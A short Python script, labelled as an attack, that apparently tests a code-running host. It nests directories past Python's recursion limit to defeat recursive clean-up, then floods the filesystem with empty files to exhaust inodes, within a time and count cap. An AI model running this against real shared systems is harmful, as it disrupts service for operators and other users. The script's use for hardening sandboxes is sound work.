# Attack: build a directory tree deeper than a recursive walk or clean-up can go (Python's recursion
# limit is 1000; the host collects images from the work directory and deletes it afterwards), then
# exhaust the inodes with a flood of empty files.
import os
import time

top = os.getcwd()
depth = 0
try:
    while depth < 1100:
        os.mkdir("d")
        os.chdir("d")
        depth += 1
except OSError as e:
    print(f"tree stopped: {e.strerror}")
print(f"directory tree {depth} levels deep", flush=True)
os.chdir(top)
files = 0
error = "reached the ceiling"
deadline = time.monotonic() + 0.5
try:
    os.mkdir("flood")
    while files < 500_000 and time.monotonic() < deadline:
        for _ in range(1000):
            open(f"flood/{files}", "wb").close()
            files += 1
except OSError as e:
    error = e.strerror
print(f"{files} empty files ({error})", flush=True)
